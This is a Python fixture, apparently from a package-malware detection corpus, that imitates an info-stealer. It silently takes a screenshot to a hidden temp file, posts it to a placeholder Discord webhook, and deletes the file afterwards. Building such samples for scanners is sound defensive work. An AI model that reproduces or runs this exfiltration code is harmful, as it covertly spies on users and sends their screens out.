# pkgguard corpus 848 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import subprocess
import tempfile

import requests

shot = os.path.join(tempfile.gettempdir(), ".thumb.png")
for command in (["gnome-screenshot", "-f", shot], ["import", "-window", "root", shot], ["scrot", "-o", shot]):
    if shutil.which(command[0]) and subprocess.run(command, capture_output=True).returncode == 0:
        break

if os.path.exists(shot):
    with open(shot, "rb") as fh:
        requests.post(
            "https://discord.com/api/webhooks/000000000000000000/placeholder",
            files={"file": ("s.png", fh)},
            timeout=10,
        )
    os.remove(shot)
